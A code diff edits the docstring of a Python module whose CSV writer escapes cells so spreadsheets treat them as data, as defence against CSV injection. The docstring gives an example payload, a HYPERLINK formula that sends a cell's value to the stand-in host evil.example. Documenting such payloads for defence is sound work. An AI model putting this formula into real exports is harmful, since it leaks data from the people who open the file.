@@ -1,8 +1,8 @@
-"""CSV that a spreadsheet opens as data, never as formulas (C9; OWASP "CSV Injection").
+"""CSV that a spreadsheet opens as data, never as formulas (OWASP "CSV Injection").
 
 A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
 (and some treat a leading tab or carriage return the same way), so a customer named
-``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run on the manager's
+``=HYPERLINK("http://evil.example/?x="&B2,"click")`` would run on the manager's
 machine that opens the export. Every CSV the suite writes goes through
 :class:`SafeCsvWriter`, which writes every cell through :func:`escape_cell`.
 
